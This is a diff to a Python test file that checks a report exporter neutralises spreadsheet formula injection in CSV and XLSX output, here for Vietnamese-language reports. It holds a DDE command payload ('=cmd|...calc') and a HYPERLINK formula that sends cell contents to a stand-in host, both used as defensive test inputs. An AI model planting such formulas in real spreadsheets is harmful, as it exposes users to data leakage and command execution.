@@ -44,3 +44,25 @@ def test_report_csv_neutralises_cells_and_headers() -> None:
         ["'=cmd|' /C calc'!A0", "-3"],
         ["Bến Tre", "4"],
     ]
+
+
+def test_xlsx_text_that_looks_like_a_formula_stays_text() -> None:
+    """openpyxl would store `=HYPERLINK(…)` typed in a note as a live formula."""
+    import io
+
+    from openpyxl import load_workbook
+
+    from bantin.records.reports.document import Column, Report, Table
+    from bantin.records.reports.xlsx import to_xlsx
+
+    evil = '=HYPERLINK("http://x.example/?q="&A1,"bấm")'
+    report = Report(
+        kind="output",
+        lang="vi",
+        title="Sản lượng",
+        facts=[("Ghi chú", evil)],
+        tables=[Table("bang", "Bảng", [Column("note", "Ghi chú", "text")], [{"note": evil}])],
+    )
+    wb = load_workbook(io.BytesIO(to_xlsx(report)))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == evil]
+    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)
